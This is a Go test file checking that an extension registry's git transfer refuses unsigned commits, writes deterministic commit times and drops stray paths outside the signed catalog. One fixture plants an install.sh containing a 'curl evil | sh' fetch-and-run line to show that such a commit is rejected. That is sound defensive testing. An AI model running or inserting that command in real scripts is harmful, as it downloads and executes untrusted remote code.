package transfer_test

import (
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/go-git/go-billy/v5/osfs"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/go-git/go-git/v5/plumbing/cache"
	"github.com/go-git/go-git/v5/plumbing/object"
	"github.com/go-git/go-git/v5/storage/filesystem"
	"github.com/sigstore/sigstore/pkg/signature"

	"github.com/airvsx/airvsx/index/store/gitstore"
	"github.com/airvsx/airvsx/index/trust"
	"github.com/airvsx/airvsx/testkit/demoreg"
	"github.com/airvsx/airvsx/testkit/filetest"
	"github.com/airvsx/airvsx/testkit/gittest"
	"github.com/airvsx/airvsx/transfer"
)

// gitFromDir commits the directory registry dir into a new bare git
// repository, signed by signer, and returns the repository's path.
func gitFromDir(t testing.TB, signer signature.Signer, dir string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "reg.git")
	gittest.CommitDir(t, path, signer, dir, "import")
	return path
}

// openGit opens the git registry at path, for writing with signer when
// it is not nil, closed when the test ends.
func openGit(t testing.TB, path string, signer signature.Signer) *gitstore.Store {
	t.Helper()
	s, err := gitstore.Open(path, gitstore.Options{Write: signer != nil, Create: signer != nil, Signer: signer})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	return s
}

// TestCopyGitSourceUnsigned: a git source whose head is a commit the
// anchor's key did not sign (one planting an executable on top of the
// signed history) is refused before any of its tree is read, with the
// commit named, and nothing is written.
func TestCopyGitSourceUnsigned(t *testing.T) {
	reg := demoreg.Get(t)
	path := gitFromDir(t, reg.Signer, reg.Dir)
	bad := gittest.CommitOnTop(t, path, map[string][]byte{"install.sh": []byte("#!/bin/sh\ncurl evil | sh\n")})
	dir := filepath.Join(t.TempDir(), "dst")
	dst := openDir(t, dir)
	_, err := transfer.Copy(t.Context(), openGit(t, path, nil), dst, options(reg))
	if !errors.Is(err, transfer.ErrSource) || !errors.Is(err, trust.ErrHistorySignature) || !strings.Contains(err.Error(), bad.String()) {
		t.Fatalf("Copy = %v; want ErrSource and ErrHistorySignature naming commit %s", err, bad)
	}
	if names, _ := dst.ListMetadata(t.Context()); len(names) != 0 {
		t.Errorf("metadata written: %v", names)
	}
}

// TestCopyGitDestUnsigned: a copy into a git destination whose branch
// ends in a commit the registry's keys did not sign is refused, naming
// it, rather than signing over it; the branch is left where it was.
func TestCopyGitDestUnsigned(t *testing.T) {
	reg := demoreg.Get(t)
	path := filepath.Join(t.TempDir(), "dst.git")
	dst := openGit(t, path, reg.Signer)
	if _, err := transfer.Copy(t.Context(), readOnly(t, reg.Dir1), dst, options(reg)); err != nil {
		t.Fatal(err)
	}
	dst.Close()
	bad := gittest.CommitOnTop(t, path, map[string][]byte{"install.sh": []byte("#!/bin/sh\n")})
	_, err := transfer.Copy(t.Context(), readOnly(t, reg.Dir), openGit(t, path, reg.Signer), options(reg))
	if !errors.Is(err, transfer.ErrRefused) || !errors.Is(err, trust.ErrHistorySignature) || !strings.Contains(err.Error(), bad.String()) {
		t.Fatalf("Copy = %v; want ErrRefused and ErrHistorySignature naming commit %s", err, bad)
	}
	if got := openGit(t, path, nil).Revision(); got != bad.String() {
		t.Errorf("branch at %s; want it left at %s", got, bad)
	}
}

// TestCopyGitCommitTime: two copies of one source into two new git
// destinations make the same commit but for its signature (ECDSA
// signatures are randomized): the commit time is the signed catalog's,
// not the clock's, nor that of another catalog the copy carries.
func TestCopyGitCommitTime(t *testing.T) {
	reg := demoreg.Get(t)
	cat, _ := demoreg.ReadCatalog(t, reg.Dir)
	var commits []string
	for i := range 2 {
		path := filepath.Join(t.TempDir(), "dst.git")
		dst := openGit(t, path, reg.Signer)
		if _, err := transfer.Copy(t.Context(), readOnly(t, reg.Dir), dst, options(reg)); err != nil {
			t.Fatalf("copy %d: %v", i, err)
		}
		dst.Close()
		c, when := headCommit(t, path)
		if !when.Equal(cat.Created) {
			t.Errorf("copy %d: commit time %s; want the catalog's, %s", i, when, cat.Created)
		}
		commits = append(commits, c)
	}
	if commits[0] != commits[1] {
		t.Errorf("two copies of one source made two commits:\n%s\n---\n%s", commits[0], commits[1])
	}
}

// headCommit returns the head commit of the repository at path as its
// signature covers it (encoded without the signature), and its commit
// time.
func headCommit(t *testing.T, path string) (string, time.Time) {
	t.Helper()
	st := filesystem.NewStorage(osfs.New(path), cache.NewObjectLRUDefault())
	defer st.Close()
	ref, err := st.Reference(plumbing.NewBranchReferenceName("main"))
	if err != nil {
		t.Fatal(err)
	}
	c, err := object.GetCommit(st, ref.Hash())
	if err != nil {
		t.Fatal(err)
	}
	if c.PGPSignature == "" {
		t.Errorf("commit %s is not signed", c.Hash)
	}
	o := &plumbing.MemoryObject{}
	if err := c.EncodeWithoutSignature(o); err != nil {
		t.Fatal(err)
	}
	r, _ := o.Reader()
	b, _ := io.ReadAll(r)
	return string(b), c.Committer.When
}

// TestCopyGitStrayTreePaths: paths of a git source's tree outside the
// layout a registry writes (a script at the top, a folder of its own, a
// file in a repository) are not carried, even in a signed commit: a copy
// writes only what the signed catalog and metadata name.
func TestCopyGitStrayTreePaths(t *testing.T) {
	reg := demoreg.Get(t)
	srcDir := filepath.Join(t.TempDir(), "src")
	filetest.CopyDir(t, reg.Dir, srcDir)
	stray := []string{"install.sh", "tools/run.js", "extensions/airvsx-demo/hello-command/postinstall.sh"}
	for _, p := range stray {
		name := filepath.Join(srcDir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		filetest.WriteFile(t, name, []byte("#!/bin/sh\n"))
	}
	dir := filepath.Join(t.TempDir(), "dst")
	if _, err := transfer.Copy(t.Context(), openGit(t, gitFromDir(t, reg.Signer, srcDir), nil), openDir(t, dir), options(reg)); err != nil {
		t.Fatal(err)
	}
	for _, p := range append(stray, "tools") {
		if _, err := os.Lstat(filepath.Join(dir, filepath.FromSlash(p))); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%s carried into the copy (%v)", p, err)
		}
	}
	mustVerify(t, reg, readOnly(t, dir))
}
